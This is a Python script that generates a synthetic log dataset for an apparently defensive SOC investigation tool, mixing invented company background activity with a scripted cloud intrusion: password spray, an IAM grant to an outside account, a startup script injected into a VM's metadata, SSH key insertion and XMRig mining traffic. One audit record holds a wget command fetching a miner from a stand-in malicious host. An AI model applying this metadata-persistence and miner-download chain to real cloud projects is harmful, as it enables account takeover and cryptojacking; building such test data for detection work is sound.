"""Generate socbot's SYNTHETIC sample log dataset (deterministic: fixed seed).

    uv run python scripts/make_sample_data.py [--out examples/data]

Writes four small Parquet files (GCP audit logs, VPC flow logs, authentication logs,
Cloud DNS query logs) covering 2025-11-05 00:00 to 2025-11-08 06:00 UTC for the fictional
project ``production-project-12345``. Everything is invented: background noise from a
small company plus the story behind ``examples/alerts/leveret-scc.json`` (XMRig
crypto-mining on GCE instance web-server-prod-01), so that an investigation of that alert
finds the password spray, the IAM change, the metadata startup script, the SSH login and
the start of the mining connections. Addresses are documentation ranges (RFC 5737) except
the indicators taken from the example alert and Google's documented health-check ranges.
"""

from __future__ import annotations

import argparse
import json
import random
import tempfile
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import duckdb

SEED = 20251108
START = datetime(2025, 11, 5, tzinfo=UTC)
END = datetime(2025, 11, 8, 6, 0, tzinfo=UTC)
PROJECT = "production-project-12345"
ZONE = f"projects/{PROJECT}/zones/us-central1-a"
GOOGLE_APIS = "199.36.153.8"  # private.googleapis.com
ATTACKER_IP = "185.220.101.42"
POOL_IP = "195.123.245.89"
CDN_IP = "198.51.100.77"
OFFICE_IP = "198.51.100.10"
INSTANCES = {
    "web-server-prod-01": "10.128.0.12",
    "web-server-prod-02": "10.128.0.13",
    "db-prod-01": "10.128.0.20",
    "bastion-01": "10.128.0.5",
    "batch-worker-01": "10.128.0.30",
}
USERS = [
    "alice.nguyen", "bob.smith", "carol.diaz", "dave.okafor", "erin.walsh", "frank.meyer",
    "grace.lee", "hiro.tanaka", "ines.silva", "j.doe", "kim.park", "liam.obrien",
]  # fmt: skip
SA = {
    "web": f"web-app@{PROJECT}.iam.gserviceaccount.com",
    "ci": f"ci-deployer@{PROJECT}.iam.gserviceaccount.com",
    "tf": f"terraform@{PROJECT}.iam.gserviceaccount.com",
}
GCLOUD_UA = "google-cloud-sdk gcloud/449.0.0 command/gcloud.compute.instances.describe"
BROWSER_UA = "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Safari/605.1.15"

DNS_NOISE = [
    ("storage.googleapis.com", "199.36.153.8"),
    ("oauth2.googleapis.com", "199.36.153.9"),
    ("metadata.google.internal", "169.254.169.254"),
    ("deb.debian.org", "203.0.113.52"),
    (f"db-prod-01.c.{PROJECT}.internal", "10.128.0.20"),
]
Row = dict[str, Any]
STOPPED = (datetime(2025, 11, 8, 4, 50, tzinfo=UTC), datetime(2025, 11, 8, 5, 1, tzinfo=UTC))

SCHEMAS: dict[str, dict[str, str]] = {
    "gcp_audit_logs": {
        "event_time": "TIMESTAMPTZ", "project_id": "VARCHAR", "log_type": "VARCHAR",
        "principal_email": "VARCHAR", "caller_ip": "VARCHAR", "user_agent": "VARCHAR",
        "service_name": "VARCHAR", "method_name": "VARCHAR", "resource_name": "VARCHAR",
        "status_code": "INTEGER", "status_message": "VARCHAR", "request_summary": "VARCHAR",
    },
    "vpc_flow_logs": {
        "event_time": "TIMESTAMPTZ", "end_time": "TIMESTAMPTZ", "project_id": "VARCHAR",
        "reporter": "VARCHAR", "src_instance": "VARCHAR", "dst_instance": "VARCHAR",
        "src_ip": "VARCHAR", "src_port": "INTEGER", "dst_ip": "VARCHAR", "dst_port": "INTEGER",
        "protocol": "VARCHAR", "bytes_sent": "BIGINT", "packets_sent": "BIGINT",
        "remote_country": "VARCHAR",
    },
    "auth_logs": {
        "event_time": "TIMESTAMPTZ", "source": "VARCHAR", "host": "VARCHAR",
        "user_name": "VARCHAR", "src_ip": "VARCHAR", "result": "VARCHAR",
        "failure_reason": "VARCHAR", "auth_method": "VARCHAR", "mfa": "BOOLEAN",
        "user_agent": "VARCHAR", "geo_country": "VARCHAR",
    },
    "dns_logs": {
        "event_time": "TIMESTAMPTZ", "project_id": "VARCHAR", "source_instance": "VARCHAR",
        "source_ip": "VARCHAR", "query_name": "VARCHAR", "query_type": "VARCHAR",
        "response_code": "VARCHAR", "answer": "VARCHAR",
    },
}  # fmt: skip


def at(text: str) -> datetime:
    """A timestamp of the story, ``MM-DD HH:MM:SS`` in November 2025, UTC."""
    return datetime.strptime(f"2025-{text}", "%Y-%m-%d %H:%M:%S").replace(tzinfo=UTC)


def windows(step_min: int) -> Iterator[datetime]:
    t = START
    while t < END:
        yield t
        t += timedelta(minutes=step_min)


def audit(t: datetime, who: str, ip: str, ua: str, method: str, resource: str, **kw: Any) -> Row:
    service = kw.pop("service", "compute.googleapis.com")
    return {
        "event_time": t,
        "project_id": PROJECT,
        "log_type": kw.pop("log_type", "ADMIN_ACTIVITY"),
        "principal_email": who,
        "caller_ip": ip,
        "user_agent": ua,
        "service_name": service,
        "method_name": method,
        "resource_name": resource,
        "status_code": kw.pop("code", 0),
        "status_message": kw.pop("message", None),
        "request_summary": kw.pop("summary", None),
    }


def flow(t: datetime, src: str, dst: str, sport: int, dport: int, nbytes: int, **kw: Any) -> Row:
    by_ip = {ip: name for name, ip in INSTANCES.items()}
    return {
        "event_time": t,
        "end_time": t + timedelta(seconds=kw.pop("secs", 5)),
        "project_id": PROJECT,
        "reporter": "SRC" if src in by_ip else "DEST",
        "src_instance": by_ip.get(src),
        "dst_instance": by_ip.get(dst),
        "src_ip": src,
        "src_port": sport,
        "dst_ip": dst,
        "dst_port": dport,
        "protocol": kw.pop("proto", "TCP"),
        "bytes_sent": nbytes,
        "packets_sent": max(1, nbytes // 1200),
        "remote_country": kw.pop("country", None),
    }


def auth(t: datetime, source: str, user: str, ip: str, ok: bool, **kw: Any) -> Row:
    return {
        "event_time": t,
        "source": source,
        "host": kw.pop("host", None),
        "user_name": user,
        "src_ip": ip,
        "result": "SUCCESS" if ok else "FAILURE",
        "failure_reason": None if ok else kw.pop("reason", "invalid_password"),
        "auth_method": kw.pop("method", "saml"),
        "mfa": kw.pop("mfa", source == "sso"),
        "user_agent": kw.pop("ua", BROWSER_UA if source == "sso" else "OpenSSH_9.6"),
        "geo_country": kw.pop("country", "US"),
    }


def dns(t: datetime, instance: str, name: str, answer: str | None, rcode: str = "NOERROR") -> Row:
    return {
        "event_time": t,
        "project_id": PROJECT,
        "source_instance": instance,
        "source_ip": INSTANCES[instance],
        "query_name": name + ".",
        "query_type": "A",
        "response_code": rcode,
        "answer": answer,
    }


def jitter(rng: random.Random, t: datetime, minutes: int = 10) -> datetime:
    return t + timedelta(seconds=rng.randrange(minutes * 60))


def ephemeral(rng: random.Random) -> int:
    return rng.randrange(32768, 61000)


def background(rng: random.Random) -> dict[str, list[Row]]:
    """A few quiet days of a small company's production project."""
    out: dict[str, list[Row]] = {name: [] for name in SCHEMAS}
    flows, audits, auths = out["vpc_flow_logs"], out["gcp_audit_logs"], out["auth_logs"]
    db = INSTANCES["db-prod-01"]
    for t in windows(10):
        for name in ("web-server-prod-01", "web-server-prod-02"):
            if name == "web-server-prod-01" and STOPPED[0] <= t < STOPPED[1]:
                continue  # the attacker stopped the instance to add a startup script
            ip = INSTANCES[name]
            health_check = f"35.191.{rng.randrange(256)}.{rng.randrange(256)}"
            load_balancer = f"130.211.{rng.randrange(4)}.{rng.randrange(256)}"
            size = rng.randrange
            flows += [
                flow(jitter(rng, t), health_check, ip, ephemeral(rng), 80, size(400, 900)),
                flow(jitter(rng, t), load_balancer, ip, ephemeral(rng), 443, size(20_000, 900_000)),
                flow(jitter(rng, t), ip, db, ephemeral(rng), 5432, size(5_000, 200_000)),
                flow(jitter(rng, t), ip, GOOGLE_APIS, ephemeral(rng), 443, size(2_000, 60_000),
                     country="US"),
            ]  # fmt: skip
            if rng.random() < 0.5:
                image = f"projects/_/buckets/{PROJECT}-assets/objects/img/{rng.randrange(900)}.png"
                audits.append(audit(jitter(rng, t), SA["web"], ip, "gcloud-golang/0.111 storage",
                                    "storage.objects.get", image, service="storage.googleapis.com",
                                    log_type="DATA_ACCESS"))  # fmt: skip
        if rng.random() < 0.3:
            mirror = f"203.0.113.{rng.randrange(20, 40)}"
            flows.append(flow(jitter(rng, t), INSTANCES["batch-worker-01"], mirror, ephemeral(rng),
                              443, rng.randrange(50_000, 5_000_000), country="US"))  # fmt: skip
        if rng.random() < 0.25:  # internet noise against the bastion
            scanner, when = f"192.0.2.{rng.randrange(1, 255)}", jitter(rng, t)
            country = rng.choice(["CN", "NL", "BR", "VN"])
            flows.append(flow(when, scanner, INSTANCES["bastion-01"], ephemeral(rng), 22, 320,
                              country=country))  # fmt: skip
            auths.append(auth(when, "sshd", rng.choice(["root", "admin", "ubuntu"]), scanner,
                              False, host="bastion-01", reason="invalid_user", method="password",
                              country=country))  # fmt: skip
    for t in windows(15):
        for name in INSTANCES:
            host, answer = rng.choice(DNS_NOISE)
            out["dns_logs"].append(dns(jitter(rng, t, 15), name, host, answer))
    add_workdays(rng, out)
    return out


def add_workdays(rng: random.Random, out: dict[str, list[Row]]) -> None:
    """Employees sign in, use the console and gcloud, and SSH through IAP; CI deploys."""
    day = START
    while day < END:
        for number, user in enumerate(USERS):
            if day.weekday() >= 5 and rng.random() < 0.8:
                continue
            email = f"{user}@example.com"
            ip = OFFICE_IP if rng.random() < 0.6 else f"203.0.113.{number + 100}"
            for _ in range(rng.randrange(1, 4)):
                t = day + timedelta(hours=13 + rng.random() * 10)  # 08:00-18:00 US Eastern
                if t >= END:
                    continue
                if rng.random() < 0.08:  # a mistyped password first
                    out["auth_logs"].append(
                        auth(t - timedelta(seconds=20), "sso", email, ip, False)
                    )
                out["auth_logs"].append(auth(t, "sso", email, ip, True))
                for _ in range(rng.randrange(0, 4)):
                    out["gcp_audit_logs"].append(employee_call(rng, t, email, ip))
                if user in ("alice.nguyen", "hiro.tanaka", "kim.park") and rng.random() < 0.5:
                    host = rng.choice(["bastion-01", "web-server-prod-02", "db-prod-01"])
                    iap = f"35.235.240.{rng.randrange(1, 250)}"
                    when = t + timedelta(minutes=rng.randrange(5, 90))
                    out["auth_logs"].append(
                        auth(
                            when,
                            "sshd",
                            user.replace(".", "_"),
                            iap,
                            True,
                            host=host,
                            method="publickey",
                            mfa=False,
                        )
                    )
                    out["vpc_flow_logs"].append(
                        flow(
                            when,
                            iap,
                            INSTANCES[host],
                            ephemeral(rng),
                            22,
                            rng.randrange(8_000, 90_000),
                            secs=600,
                        )
                    )
        for hour in (2, 14):  # CI deploys and terraform plans
            t = day + timedelta(hours=hour, minutes=rng.randrange(60))
            if t < END:
                out["gcp_audit_logs"] += [
                    audit(t, SA["ci"], "10.128.0.30", "google-cloud-sdk gcloud/449.0.0",
                          "v1.compute.instanceGroupManagers.patch",
                          f"{ZONE}/instanceGroupManagers/web-mig"),
                    audit(t + timedelta(minutes=3), SA["tf"], "10.128.0.30", "Terraform/1.9.5",
                          "v1.compute.firewalls.get",
                          f"projects/{PROJECT}/global/firewalls/allow-lb-health-checks"),
                ]  # fmt: skip
        day += timedelta(days=1)
    # A benign IAM change by an admin, for contrast with the malicious one.
    out["gcp_audit_logs"].append(audit(
        at("11-06 15:12:09"), "alice.nguyen@example.com", OFFICE_IP, BROWSER_UA, "SetIamPolicy",
        f"projects/{PROJECT}", service="cloudresourcemanager.googleapis.com",
        summary="add binding roles/viewer member user:kim.park@example.com (ticket OPS-1182)",
    ))  # fmt: skip


def employee_call(rng: random.Random, t: datetime, email: str, ip: str) -> Row:
    """One console or gcloud call by an employee, sometimes denied."""
    job = f"projects/{PROJECT}/jobs/job_{rng.randrange(10**6)}"
    method, resource, service = rng.choice([
        ("v1.compute.instances.get", f"{ZONE}/instances/web-server-prod-02", "compute"),
        ("v1.compute.instances.list", ZONE, "compute"),
        ("storage.objects.list", f"projects/_/buckets/{PROJECT}-assets", "storage"),
        ("jobservice.insert", job, "bigquery"),
    ])  # fmt: skip
    denied = email.startswith("bob.") and rng.random() < 0.3
    return audit(
        t + timedelta(minutes=rng.randrange(1, 120)),
        email,
        ip,
        BROWSER_UA if rng.random() < 0.5 else GCLOUD_UA,
        method,
        resource,
        service=f"{service}.googleapis.com",
        log_type="DATA_ACCESS" if "list" in method or "get" in method else "ADMIN_ACTIVITY",
        code=7 if denied else 0,
        message="PERMISSION_DENIED" if denied else None,
    )


# The attack, as (time, principal, user agent, method, resource, extra fields).
VM = f"{ZONE}/instances/web-server-prod-01"
JDOE, ATTACKER, CURL = "j.doe@example.com", "attacker@external-domain.com", "curl/7.68.0"
READ = {"log_type": "DATA_ACCESS"}
STORY_AUDIT: list[tuple[str, str, str, str, str, dict[str, Any]]] = [
    ("11-07 22:19:40", JDOE, GCLOUD_UA, "SetIamPolicy", f"projects/{PROJECT}",
     {"service": "cloudresourcemanager.googleapis.com",
      "summary": f"add binding roles/compute.admin member user:{ATTACKER}"}),
    ("11-07 22:21:05", JDOE, GCLOUD_UA, "v1.compute.instances.list", ZONE, READ),
    ("11-08 04:51:02", ATTACKER, CURL, "v1.compute.instances.list", ZONE, READ),
    ("11-08 04:53:30", ATTACKER, CURL, "v1.compute.instances.stop", VM, {}),
    ("11-08 04:57:12", ATTACKER, CURL, "v1.compute.instances.setMetadata", VM,
     {"summary": "metadata keys changed: ssh-keys (added key for user 'attacker'), startup-script "
                 "(added: wget http://malicious-cdn.com/xmrig -O /tmp/.xmrig/xmrig)"}),
    ("11-08 05:01:05", ATTACKER, CURL, "v1.compute.instances.start", VM, {}),
    ("11-08 05:19:55", ATTACKER, CURL, "google.iam.admin.v1.CreateServiceAccountKey",
     f"projects/{PROJECT}/serviceAccounts/{SA['web']}", {"service": "iam.googleapis.com"}),
    ("11-08 05:21:10", ATTACKER, CURL, "v1.compute.instances.insert",
     f"projects/{PROJECT}/zones/us-east1-b/instances/gpu-worker-7",
     {"code": 8, "message": "RESOURCE_EXHAUSTED: Quota 'NVIDIA_T4_GPUS' exceeded. Limit: 0.0"}),
]  # fmt: skip


def story(rng: random.Random) -> dict[str, list[Row]]:
    """Password spray -> IAM grant -> startup-script -> SSH -> XMRig mining (the SCC alert)."""
    out: dict[str, list[Row]] = {name: [] for name in SCHEMAS}
    spray = {"method": "password", "mfa": False, "ua": "python-requests/2.31.0", "country": "RO"}
    t = at("11-07 21:38:02")
    for i in range(64):
        user = f"{USERS[i % len(USERS)]}@example.com"
        if user != JDOE or i < 60:
            out["auth_logs"].append(auth(t, "sso", user, ATTACKER_IP, False, **spray))
        t += timedelta(seconds=rng.randrange(15, 35))
    spray["method"] = "password (legacy app password, MFA not enforced)"
    out["auth_logs"].append(auth(at("11-07 22:06:13"), "sso", JDOE, ATTACKER_IP, True, **spray))
    out["auth_logs"].append(auth(at("11-08 05:14:21"), "sshd", "attacker", ATTACKER_IP, True,
                                 host="web-server-prod-01", method="publickey", mfa=False,
                                 country="RO"))  # fmt: skip
    out["gcp_audit_logs"] = [
        audit(at(when), who, ATTACKER_IP, ua, method, resource, **dict(extra))
        for when, who, ua, method, resource, extra in STORY_AUDIT
    ]
    web = INSTANCES["web-server-prod-01"]
    out["dns_logs"] += [
        dns(at("11-08 05:01:58"), "web-server-prod-01", "malicious-cdn.com", CDN_IP),
        dns(at("11-08 05:15:29"), "web-server-prod-01", "pool.minexmr.com", POOL_IP),
        dns(at("11-08 05:15:30"), "web-server-prod-01", "xmr-pool-eu.hashvault.pro", ATTACKER_IP),
    ]
    out["vpc_flow_logs"] += [
        flow(at("11-08 05:02:01"), web, CDN_IP, 49822, 80, 2_316_480, secs=4, country="NL"),
        flow(at("11-08 05:14:18"), ATTACKER_IP, web, 51812, 22, 48_211, secs=600, country="RO"),
    ]
    t = at("11-08 05:15:40")
    while t < END:  # the miner keeps one connection to each pool open
        for ip, port in ((POOL_IP, 4444), (ATTACKER_IP, 3333)):
            nbytes = rng.randrange(180_000, 260_000)
            out["vpc_flow_logs"].append(flow(t, web, ip, 38000 + port % 100, port, nbytes,
                                             secs=60, country="RO"))  # fmt: skip
        t += timedelta(minutes=1)
    return out


def write(out_dir: Path, tables: dict[str, list[Row]]) -> None:
    out_dir.mkdir(parents=True, exist_ok=True)
    con = duckdb.connect()
    con.execute("SET TimeZone = 'UTC'")
    with tempfile.TemporaryDirectory() as tmp:
        for name, rows in tables.items():
            src = Path(tmp) / f"{name}.jsonl"
            with src.open("w") as fh:
                for row in sorted(
                    rows, key=lambda r: (r["event_time"], json.dumps(r, default=str))
                ):
                    fh.write(json.dumps(row, default=lambda v: v.isoformat()) + "\n")
            cols = ", ".join(f"'{c}': '{t}'" for c, t in SCHEMAS[name].items())
            target = out_dir / f"{name}.parquet"
            con.execute(
                f"COPY (SELECT * FROM read_json('{src}', format='newline_delimited', "
                f"columns={{{cols}}})) TO '{target}' (FORMAT parquet, COMPRESSION zstd)"
            )


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, default=Path("examples/data"))
    args = parser.parse_args()
    rng = random.Random(SEED)
    tables = background(rng)
    for name, rows in story(rng).items():
        tables[name] += rows
    write(args.out, tables)
    for name, rows in tables.items():
        print(f"{name}: {len(rows)} rows")


if __name__ == "__main__":
    main()
